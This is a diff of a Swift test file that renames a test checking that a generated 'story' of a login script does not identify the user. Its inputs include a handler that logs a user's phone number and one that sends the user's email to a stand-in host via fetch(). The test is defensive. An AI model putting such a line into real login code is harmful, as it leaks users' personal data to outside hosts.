@@ -92,7 +92,7 @@ struct StoryTests {
     "console.log(event.user.user_id.slice(6), event.user.user_metadata.phone);",
     "try { await fetch(`https://a.example/${encodeURIComponent(event.user.email)}`) } catch {}",
   ])
-  func `who the user is stands nowhere in a story`(handler: String) async throws {
+  func `a story does not identify the user`(handler: String) async throws {
     let story = try await story(
       of: [script("exports.onExecutePostLogin = async (event, api) => {\n  \(handler)\n};")],
       on: Self.person
